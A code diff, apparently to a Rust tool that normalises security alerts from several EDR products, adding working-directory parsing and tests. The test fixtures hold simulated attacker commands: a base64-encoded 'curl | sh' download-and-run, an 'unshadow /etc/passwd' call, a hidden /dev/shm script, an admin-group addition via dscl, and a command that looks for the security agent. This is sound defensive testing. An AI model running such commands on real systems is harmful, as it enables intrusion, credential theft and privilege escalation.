@@ -3751,6 +3751,25 @@ const MACOS_PROGRAMS: &[&str] = &[
     "mdfind",
 ];
 
+/// The absolute directory a shell command line `cd`s into right before it runs `cmd`
+/// (`sh -c "cd /dev/shm/.x && python3 kworker.py"`), when `cmd` is what follows the `cd`.
+fn cd_before(shell_cmd: &str, cmd: &str) -> Option<String> {
+    use regex::Regex;
+    use std::sync::LazyLock;
+    static CD: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?:^|[;&|(]\s*|\s-c\s+["']?)cd\s+(?:--\s+)?["']?(/[^\s;&|"']*|~[^\s;&|"']*)["']?\s*(?:&&|;)\s*(?:exec\s+)?([^;&|"']+)"#)
+            .expect("static regex")
+    });
+    let want: Vec<&str> = cmd.split_whitespace().take(2).collect();
+    let first = |w: &str| basename_of(w).to_owned();
+    CD.captures_iter(shell_cmd).find_map(|c| {
+        let next: Vec<&str> = c[2].split_whitespace().take(2).collect();
+        (next.len() == want.len() && first(next[0]) == first(want[0]) && next.get(1) == want.get(1))
+            .then(|| c[1].trim_end_matches('/').to_owned())
+            .filter(|d| !d.is_empty())
+    })
+}
+
 fn derive(e: &mut Map<String, Json>) {
     // Near-ECS shapes (Kandji's EDR detections and the like): the process's `path`, its parent
     // as a sibling `parent_process` object, the endpoint as `device_name`.
@@ -3891,6 +3910,15 @@ fn derive(e: &mut Map<String, Json>) {
         }
     }
     let doc = Json::Object(e.clone());
+    // A shell's `-c 'cd DIR && CMD'` (cron's and many launchers' way) started the process:
+    // it runs in DIR, where its relative script (`python3 kworker.py`) lives.
+    if get_str(&doc, "process.working_directory").is_none()
+        && let Some(pc) = get_str(&doc, "process.parent.command_line")
+        && let Some(cmd) = get_str(&doc, "process.command_line")
+        && let Some(dir) = cd_before(pc, cmd)
+    {
+        set_path(e, "process.working_directory", s(&dir));
+    }
     if get_str(&doc, "host.os.type").is_none() {
         let hint = [
             get_str(&doc, "host.os.family"),
@@ -7047,5 +7075,80 @@ mod tests {
         let a = from_json(up, "x").unwrap();
         assert_eq!(get(&a, "host.name"), "db-1");
         assert!(get(&a, "process.command_line").contains("unshadow /etc/passwd"));
+    }
+
+    #[test]
+    fn session_25_shapes() {
+        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
+        // Google SecOps UDM: the pipeline's other members under `about`, in the order they
+        // started, join the judged command as branches.
+        let udm = json!({"metadata": {"eventType": "PROCESS_LAUNCH", "id": "u1"},
+            "principal": {"hostname": "h", "process": {"pid": "10", "commandLine": "-bash", "file": {"fullPath": "/usr/bin/bash"}}},
+            "target": {"process": {"pid": "13", "commandLine": "bash", "file": {"fullPath": "/usr/bin/bash"}}},
+            "about": [{"process": {"pid": "12", "commandLine": "base64 -d"}},
+                      {"process": {"pid": "11", "commandLine": "echo Y3VybCBodHRwOi8veC95IHwgc2g="}}]});
+        let a = from_json(udm, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "bash\necho Y3VybCBodHRwOi8veC95IHwgc2g=\nbase64 -d"
+        );
+        // CrowdStrike streamed detection: the process's outbound connection.
+        let cs = json!({"metadata": {"eventType": "DetectionSummaryEvent"},
+            "event": {"ComputerName": "w", "UserName": "u", "FileName": "python3", "FilePath": "/usr/bin",
+                "CommandLine": "python3 k.py", "DetectId": "ldt:1",
+                "NetworkAccesses": [
+                    {"RemoteAddress": "10.0.0.9", "RemotePort": 5000, "ConnectionDirection": 1},
+                    {"RemoteAddress": "185.196.10.77", "RemotePort": 8443, "ConnectionDirection": 0}]}});
+        let a = from_json(cs, "x").unwrap();
+        assert_eq!(get(&a, "destination.ip"), "185.196.10.77");
+        assert_eq!(a.doc["destination"]["port"], 8443);
+        // Any shape: a shell's `cd DIR && CMD` that started the process gives its working
+        // directory, only when CMD is the process's own command.
+        let ecs = json!({"process": {"command_line": "python3 kworker.py", "executable": "/usr/bin/python3",
+            "parent": {"command_line": "/bin/sh -c cd /dev/shm/.x/ && python3 kworker.py >/dev/null 2>&1"}}});
+        let a = from_json(ecs, "x").unwrap();
+        assert_eq!(get(&a, "process.working_directory"), "/dev/shm/.x");
+        let other = json!({"process": {"command_line": "python3 other.py", "executable": "/usr/bin/python3",
+            "parent": {"command_line": "/bin/sh -c cd /dev/shm/.x && python3 kworker.py"}}});
+        let a = from_json(other, "x").unwrap();
+        assert!(get_path(&a.doc, "process.working_directory").is_none());
+        // Santa's execution: an ad hoc signature has no identity behind it.
+        let santa = json!({"machine_id": "M1", "event_time": "2026-01-06T10:48:19Z",
+            "execution": {"instigator": {"id": {"pid": 5}, "executable": {"path": "/bin/bash"}},
+                "target": {"id": {"pid": 6}, "executable": {"path": "/Users/k/Downloads/T/bin/h"}},
+                "args": ["./bin/h", "--install"], "decision": "DECISION_ALLOW",
+                "signing_status": "SIGNING_STATUS_ADHOC"}});
+        let a = from_json(santa, "x").unwrap();
+        assert_eq!(a.doc["process"]["code_signature"]["trusted"], false);
+        // SentinelOne threat: the originator's path and command line from
+        // `originatorProcessInfo`.
+        let s1 = json!({"id": "7", "threatInfo": {"threatId": "7", "threatName": "cmd.exe",
+                "filePath": "\\Device\\HarddiskVolume4\\Windows\\System32\\cmd.exe",
+                "originatorProcess": "AnyDesk.exe", "processUser": "D\\u",
+                "maliciousProcessArguments": "/c \"tasklist /v | findstr /i sentinel\""},
+            "agentRealtimeInfo": {"agentComputerName": "w", "agentOsType": "windows"},
+            "originatorProcessInfo": {"path": "C:\\Users\\u\\AppData\\Roaming\\AnyDesk\\AnyDesk.exe",
+                "commandLine": "\"C:\\Users\\u\\AppData\\Roaming\\AnyDesk\\AnyDesk.exe\" --control"}});
+        let a = from_json(s1, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.parent.executable"),
+            "C:\\Users\\u\\AppData\\Roaming\\AnyDesk\\AnyDesk.exe"
+        );
+        assert!(get(&a, "process.parent.command_line").ends_with("--control"));
+        // eslogger: a controlling terminal marks the command interactive.
+        let es = json!({"event_type": 9, "time": "2025-11-03T16:15:19Z",
+            "process": {"audit_token": {"pid": 7}, "executable": {"path": "/bin/zsh"}, "tty": {"path": "/dev/ttys002"}},
+            "event": {"exec": {"target": {"audit_token": {"pid": 7, "euid": 502}, "executable": {"path": "/usr/bin/dscl"}},
+                "args": ["dscl", ".", "-list", "/Users"]}}});
+        let a = from_json(es, "x").unwrap();
+        assert_eq!(a.doc["process"]["interactive"], true);
+        // Cisco Secure Endpoint: a program under /usr/bin is not taken for Linux by its path
+        // alone (dscl is macOS's).
+        let amp = json!({"event_type": "Cloud IOC", "connector_guid": "c9",
+            "computer": {"hostname": "MBP-1", "user": "root@MBP-1"},
+            "file": {"file_name": "dscl", "file_path": "/usr/bin/dscl", "parent": {"file_name": "sh"}},
+            "command_line": {"arguments": "dscl . -append /Groups/admin GroupMembership x"}});
+        let a = from_json(amp, "x").unwrap();
+        assert_eq!(get(&a, "host.os.type"), "macos");
     }
 }
